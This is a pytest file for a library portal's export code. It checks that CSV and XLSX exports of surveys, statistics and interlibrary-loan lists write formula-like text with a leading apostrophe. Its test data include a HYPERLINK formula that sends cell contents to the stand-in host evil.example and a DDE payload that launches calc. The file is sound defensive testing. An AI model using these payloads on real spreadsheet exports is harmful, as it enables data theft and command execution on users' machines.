"""Every CSV and XLSX export writes a text that a spreadsheet could run as a formula as plain text
(a leading apostrophe, as OWASP recommends): survey answers, statistics, ILL lists (price lists: see
tests/pricing/test_price_csv.py)."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from feedback.surveys import survey_response_record
from ill.models import Status
from library_portal.exports import spreadsheet_cell, spreadsheet_row
from services.models import Consultation
from tests.factories import BranchFactory, EServiceFactory, IllRequestFactory
from tests.feedback.conftest import answers, build_survey

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Spauskite")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+370 600 00000", "'+370 600 00000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Metai", "Metai"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (dt.date(2026, 1, 5), dt.date(2026, 1, 5)),
        (None, None),
    ],
)
def test_a_cell_that_could_be_a_formula_is_written_as_text(value, written):
    assert spreadsheet_cell(value) == written
    assert spreadsheet_row([value, "x"]) == [written, "x"]


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response, sheet=None) -> list:
    workbook = load_workbook(io.BytesIO(response.content))
    rows = (workbook[sheet] if sheet else workbook.active).iter_rows()
    return [cell for row in rows for cell in row]


def test_the_ill_csv_writes_a_patrons_formula_as_text(client, librarian):
    IllRequestFactory(title=ATTACK, author="@cmd", status=Status.ORDERED)
    client.force_login(librarian)
    rows = csv_rows(client.get(reverse("admin:ill_illrequest_export")))
    assert (rows[1][7], rows[1][8]) == ("'" + ATTACK, "'@cmd")


@pytest.fixture
def survey_with_an_attack(db):
    cast = build_survey()
    survey_response_record(
        survey=cast.survey, answers=answers(cast, scale=4, help="yes", details=ATTACK), language="lt"
    )
    return cast


def test_the_survey_csv_writes_a_free_text_formula_as_text(client, manager, survey_with_an_attack):
    client.force_login(manager)
    rows = csv_rows(client.get(reverse("feedback:export_csv", args=[survey_with_an_attack.survey.slug])))
    assert "'" + ATTACK in rows[1]
    assert ATTACK not in rows[1]


def test_the_survey_xlsx_writes_a_free_text_formula_as_text(client, manager, survey_with_an_attack):
    client.force_login(manager)
    cells = xlsx_cells(client.get(reverse("feedback:export_xlsx", args=[survey_with_an_attack.survey.slug])))
    attack = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert [(cell.value, cell.data_type) for cell in attack] == [("'" + ATTACK, "s")]
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.fixture
def statistics_with_an_attack(db):
    branch = BranchFactory(name="=cmd|' /C calc'!A0", name_en="=cmd|' /C calc'!A0")
    Consultation.objects.create(date=dt.date(2026, 1, 5), branch=branch, eservice=EServiceFactory(), people=2)
    return "/en/staff/e-service-statistics/?date_from=2026-01-01&date_to=2026-01-31&export="


def test_the_statistics_csv_writes_a_formula_in_a_name_as_text(client, manager, statistics_with_an_attack):
    client.force_login(manager)
    rows = csv_rows(client.get(statistics_with_an_attack + "csv"))
    assert ["'=cmd|' /C calc'!A0", "1", "2", "15", "0", "0"] in rows


def test_the_statistics_xlsx_writes_a_formula_in_a_name_as_text(client, manager, statistics_with_an_attack):
    client.force_login(manager)
    cells = xlsx_cells(client.get(statistics_with_an_attack + "xlsx"), sheet="Branch")
    assert ("'=cmd|' /C calc'!A0", "s") in [(cell.value, cell.data_type) for cell in cells]
    assert not [cell for cell in cells if cell.data_type == "f"]
